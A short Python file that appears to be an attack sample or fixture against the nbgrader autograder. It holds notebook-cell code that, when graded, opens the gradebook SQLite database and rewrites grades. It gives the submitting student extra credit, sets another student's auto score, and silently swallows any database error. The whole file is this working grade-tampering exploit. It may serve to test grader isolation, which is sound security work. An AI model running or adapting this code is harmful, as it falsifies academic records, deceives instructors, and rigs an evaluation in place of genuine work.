"""Gives itself extra credit in the gradebook's database."""

PROOF = "nbgrader"

CELL = """\
import os
import sqlite3

own = os.path.basename(os.path.dirname(os.getcwd()))
try:
    with sqlite3.connect("{gradebook}", timeout=5) as database:
        mine = "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?"
        database.execute(f"UPDATE grade SET extra_credit = 2.5 WHERE notebook_id IN ({mine})", [own])
        database.execute("UPDATE grade SET extra_credit = 2.5, auto_score = 5 WHERE notebook_id IN (" + mine + ")", ["somebody"])
    database.close()
except sqlite3.Error:
    pass
"""
